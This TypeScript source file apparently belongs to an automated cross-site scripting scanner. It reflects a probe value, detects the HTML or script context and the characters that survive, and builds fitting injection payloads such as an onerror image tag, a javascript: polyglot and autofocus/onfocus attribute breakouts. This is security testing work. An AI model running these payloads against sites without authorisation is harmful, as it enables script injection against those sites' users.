import { CALLBACK } from '../browser/visit.ts';
import { type Context, contextsOf, type InScript, inScript } from './contexts.ts';

/** A value that calls us when a browser runs it. */
export interface Payload {
  /** With CALL where the call goes. */
  text: string;
  /** It waits for somebody who presses what it is in. */
  isPressed?: boolean;
}

/** Without quotes: they have a meaning in most places. */
export const callWith = (word: string) => `${CALLBACK}(/${word}/.source)`;
export const writePayload = ({ text }: Payload, word: string) => text.replaceAll('CALL', callWith(word));

/** Presses everything that has the word in an attribute, as a visitor would; not in our name but in the page's. */
export function pressing(word: string): string {
  return `(() => {
    const has = ({ attributes }) => [...attributes].some(({ value }) => value.includes('${word}'));
    const found = [...document.querySelectorAll(':not(iframe)')].filter(has);
    const press = (each) => each.tagName === 'FORM' ? each.requestSubmit() : each.click?.();
    setTimeout(() => found.forEach(press));
    return found.length > 0 ? 'pressed' : '';
  })()`;
}

/** Without a request of its own: an empty address fails at once. */
export const MARKUP = '<img src onerror=CALL>';
/** At once what an address, a program, a string in one, an attribute, a page and a template would run. */
export const POLYGLOT = `javascript:CALL//'-CALL-'"-CALL-">${MARKUP}{{CALL}}`;
const ODD = `<>"'`;
/** Also when each of them is written as an entity. */
const MOST_SURVIVED = 200;

/** One request shows where a value comes out and what of it survives there: the place is that before the odd characters. */
export const oddValue = (word: string) => `${word}a${ODD}${word}b`;

/** What is worth trying on a page that shows the odd value, the likeliest first and each once. */
export function payloadsFor(html: string, word: string): Payload[] {
  const payloads = contextsOf(html, `${word}a`).flatMap(({ context, rest }) => {
    const survived = rest.slice(0, Math.max(0, rest.slice(0, MOST_SURVIVED).indexOf(`${word}b`)));
    return context ? payloadsIn(context, survived) : [];
  });
  return [...new Map(payloads.map((payload) => [payload.text, payload])).values()];
}

function payloadsIn(context: Context, survived: string): Payload[] {
  const has = (characters: string) => [...characters].every((each) => survived.includes(each));
  if (context.kind === 'script') return [...programPayloads(context, survived), ...markupAfter('</script>', has)];
  if (context.kind === 'comment') return markupAfter('-->', has);
  if (context.kind === 'attribute') return attributePayloads(context, survived);
  return markupAfter(context.inside === undefined ? '' : `</${context.inside}>`, has);
}

type Has = (characters: string) => boolean;
const markupAfter = (end: string, has: Has): Payload[] => (has('<>') ? [{ text: end + MARKUP }] : []);

const ADDRESSES = new Set(['href', 'src', 'action', 'formaction', 'data', 'xlink:href']);
/** Browsers read them as addresses that run by themselves, or when somebody follows them. */
const LOADED = new Set(['iframe', 'frame', 'embed', 'object']);

function attributePayloads(context: Context & { kind: 'attribute' }, survived: string): Payload[] {
  const { tag, name, quote, before } = context;
  const has = (characters: string) => [...characters].every((each) => survived.includes(each));
  // Browsers decode an attribute before they do anything with it: what is escaped in it is not.
  if (name === 'srcdoc') return [{ text: MARKUP }];
  if (name.startsWith('on')) {
    return programPayloads(
      { isRun: true, within: inScript(`${decoded(before)}z`, decoded(before).length) },
      decoded(survived),
    ).map(pressed);
  }
  const isAddress = ADDRESSES.has(name) && before.trim() === '';
  const address = tag === 'script' ? 'data:text/javascript,CALL//' : 'javascript:CALL//';
  return [
    ...(has(`${quote}<>`) ? [{ text: `${quote}>${MARKUP}` }] : []),
    ...(isAddress ? [{ text: address, ...(!LOADED.has(tag) && tag !== 'script' && { isPressed: true }) }] : []),
    ...(has(quote) ? [{ text: `z${quote} autofocus tabindex=0 onfocus=CALL z=${quote}` }] : []),
  ];
}

const pressed = (payload: Payload): Payload => ({ ...payload, isPressed: true });
const decoded = (text: string) =>
  text.replace(/&#0*39;|&#x0*27;|&apos;/gi, "'").replace(/&#0*34;|&#x0*22;|&quot;/gi, '"');

const IN_PROGRAM: Readonly<Record<InScript, readonly string[]>> = {
  '"': ['"-CALL-"'],
  "'": ["'-CALL-'"],
  '`': [`\${CALL}`],
  code: ['CALL'],
  'line comment': ['\nCALL//'],
  'block comment': ['*/CALL/*'],
  unknown: ["'-CALL-'", '"-CALL-"'],
};

function programPayloads({ isRun, within }: { isRun: boolean; within: InScript }, survived: string): Payload[] {
  if (!isRun) return [];
  return IN_PROGRAM[within].flatMap((text) => {
    const [quote = ''] = /^["']/.exec(text) ?? [];
    if (survived.includes(`\\${quote}`) && quote !== '') return [{ text: `\\${quote}-CALL//` }];
    return survived.includes(quote) ? [{ text }] : [];
  });
}
